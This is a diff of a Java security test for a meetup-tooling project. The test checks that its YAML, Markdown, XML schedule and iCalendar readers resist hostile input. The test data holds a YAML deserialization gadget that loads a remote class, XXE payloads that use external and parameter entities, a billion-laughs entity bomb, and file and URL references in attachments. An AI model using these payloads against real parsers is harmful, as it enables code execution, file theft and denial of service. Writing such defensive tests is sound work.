@@ -11,16 +11,15 @@ import dev.meetupkit.json.schedule.ScheduleWriter;
 import dev.meetupkit.load.MeetupLoader;
 import dev.meetupkit.write.MeetupWriter;
 import java.io.IOException;
-import java.net.Proxy;
-import java.net.ProxySelector;
-import java.net.SocketAddress;
-import java.net.URI;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.net.SocketTimeoutException;
 import java.time.Instant;
 import java.time.ZoneId;
-import java.util.List;
 import java.util.Properties;
 
-/** Reads and writes in a JVM that refuses every connection; run by {@link SecurityTest}. */
+/** Reads and writes what is hostile, beside a server that must not be visited; run by {@link SecurityTest}. */
 final class Confined {
 
     private static final ZoneId ZONE = ZoneId.of("Asia/Shanghai");
@@ -28,27 +27,53 @@ final class Confined {
     private Confined() {}
 
     /** Takes the address of a file whose content must not be seen. */
-    public static void main(String[] arguments) {
+    public static void main(String[] arguments) throws IOException {
         String secret = arguments[0];
-        ProxySelector.setDefault(new ProxySelector() {
-            @Override
-            public List<Proxy> select(URI uri) {
-                throw new AssertionError("somebody connects to " + uri);
+        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            String address = "http://127.0.0.1:" + server.getLocalPort() + "/";
+            Properties before = (Properties) System.getProperties().clone();
+            for (Fixture fixture : Fixture.values()) {
+                everyFormat(MeetupLoader.in(ZONE).load(fixture.markdown()).orThrow());
             }
-
-            @Override
-            public void connectFailed(URI uri, SocketAddress address, IOException e) {
-                throw new AssertionError("somebody connected to " + uri);
-            }
-        });
-        Properties before = (Properties) System.getProperties().clone();
-        for (Fixture fixture : Fixture.values()) {
-            everyFormat(MeetupLoader.in(ZONE).load(fixture.markdown()).orThrow());
+            hostile(secret);
+            hostile(address);
+            require(before.equals(System.getProperties()), "a system property was written");
+            require(!isVisited(server), "somebody connected");
         }
-        String read = hostileDocument(secret) + hostileSchedule(secret) + hostileCalendar(secret);
-        require(!read.contains("the secret"), "a file was read: " + read);
-        require(before.equals(System.getProperties()), "a system property was written");
         System.out.println("nothing reached");
+    }
+
+    /** What was connected is in the queue, whether or not it is still there. */
+    private static boolean isVisited(ServerSocket server) throws IOException {
+        server.setSoTimeout(1);
+        try (Socket visitor = server.accept()) {
+            return true;
+        } catch (SocketTimeoutException e) {
+            return false;
+        }
+    }
+
+    private static void hostile(String address) {
+        told("zone-defaulted", yaml(address));
+        told("zone-defaulted", document(address));
+        told("zone-defaulted", schedule("<!DOCTYPE schedule SYSTEM \"" + address + "\">", "Mesh Day"));
+        told("bad-xml", schedule("<!DOCTYPE schedule [<!ENTITY e SYSTEM \"" + address + "\">]>", "&e;"));
+        told(
+                "zone-defaulted",
+                schedule("<!DOCTYPE schedule [<!ENTITY % e SYSTEM \"" + address + "\"> %e;]>", "Mesh Day"));
+        told(
+                "bad-xml",
+                schedule(
+                        "<!DOCTYPE schedule [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>",
+                        "&b;&b;&b;&b;"));
+        told("", calendar(address));
+    }
+
+    /** Reading ends with this finding, and nothing of the file is in what was read. */
+    private static void told(String code, String read) {
+        require(read.contains("[" + code + "]") || code.isEmpty(), "expected " + code + ", found " + read);
+        require(!read.contains("the secret"), "a file was read: " + read);
+        require(!read.contains("aaaaaaaaaa"), "an entity grew: " + read);
     }
 
     private static void everyFormat(Event event) {
@@ -70,53 +95,40 @@ final class Confined {
         MeetupWriter.standard().write(named);
     }
 
-    /** Tags that other readers of YAML make objects of, and images that other readers load. */
-    private static String hostileDocument(String secret) {
-        return MeetupLoader.in(ZONE).load("""
-                ---
-                title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://192.0.2.1/"]]]]
-                place: !!java.io.File [%1$s]
-                ---
-
-                # Mesh Night
-
-                ![logo](http://192.0.2.1/logo.png) <img src="%1$s"> [slides](%1$s) {{< include "%1$s" >}}
-
-                Venue: http://192.0.2.1/
-                """.formatted(secret)).toString();
+    /** Tags that other readers of YAML make objects of. */
+    private static String yaml(String address) {
+        return MeetupLoader.in(ZONE)
+                .load(
+                        "---\ntitle: Mesh Night\nplace: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"%s\"]]]]\n---\n"
+                                .formatted(address))
+                .toString();
     }
 
-    /** Entities from outside, and some that grow. */
-    private static String hostileSchedule(String secret) {
-        String document = """
-                <?xml version="1.0"?>
-                <!DOCTYPE schedule SYSTEM "http://192.0.2.1/schedule.dtd" [
-                <!ENTITY secret SYSTEM "%s">
-                <!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">
-                ]>
-                <schedule><conference><title>&secret;&c;</title></conference></schedule>
-                """.formatted(secret);
-        return ScheduleReader.in(ZONE).read(document).toString();
+    /** Images and includes that other readers load. */
+    private static String document(String address) {
+        return MeetupLoader.in(ZONE)
+                .load(
+                        "# Mesh Night\n\n![logo](%1$s) <img src=\"%1$s\"> [slides](%1$s) {{< include \"%1$s\" >}}\n\nVenue: %1$s\n"
+                                .formatted(address))
+                .toString();
+    }
+
+    private static String schedule(String type, String title) {
+        return ScheduleReader.in(ZONE)
+                .read("<?xml version=\"1.0\"?>" + type + "<schedule><conference><title>" + title
+                        + "</title></conference></schedule>")
+                .toString();
     }
 
     /** What is attached stays where it is. */
-    private static String hostileCalendar(String secret) {
+    private static String calendar(String address) {
         return CalendarReader.in(ZONE)
-                .read("""
-                BEGIN:VCALENDAR
-                VERSION:2.0
-                PRODID:-//example//EN
-                BEGIN:VEVENT
-                UID:1
-                DTSTAMP:20260101T000000Z
-                DTSTART:20260507T190000Z
-                SUMMARY:Mesh Night
-                ATTACH:%1$s
-                ATTACH:http://192.0.2.1/
-                DESCRIPTION;ALTREP="%1$s":text
-                END:VEVENT
-                END:VCALENDAR
-                """.formatted(secret).replace("\n", "\r\n"))
+                .read(
+                        ("BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:-//example//EN\nBEGIN:VEVENT\nUID:1\nDTSTAMP:20260101T000000Z\n"
+                                        + "DTSTART:20260507T190000Z\nSUMMARY:Mesh Night\nATTACH:%1$s\nDESCRIPTION;ALTREP=\"%1$s\":text\n"
+                                        + "END:VEVENT\nEND:VCALENDAR\n")
+                                .formatted(address)
+                                .replace("\n", "\r\n"))
                 .toString();
     }
 
